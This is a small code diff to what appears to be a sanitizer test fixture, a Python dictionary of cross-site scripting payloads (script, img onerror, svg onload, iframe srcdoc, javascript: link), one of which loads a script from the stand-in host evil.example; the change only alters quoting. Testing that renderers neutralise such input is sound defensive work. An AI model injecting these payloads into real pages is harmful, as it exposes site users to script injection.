@@ -3,7 +3,7 @@
 HOSTILE_TEXTS = {
     "script": "<script>window.harmed = 1; alert(1)</script>",
     "script_unclosed": "<script src=//evil.example/x.js>",
-    "image_onerror": "<img src=x onerror=\"window.harmed = 1; alert(1)\">",
+    "image_onerror": '<img src=x onerror="window.harmed = 1; alert(1)">',
     "svg_onload": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
     "iframe_srcdoc": "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
     "link_javascript": "[click](javascript:window.harmed=1)",
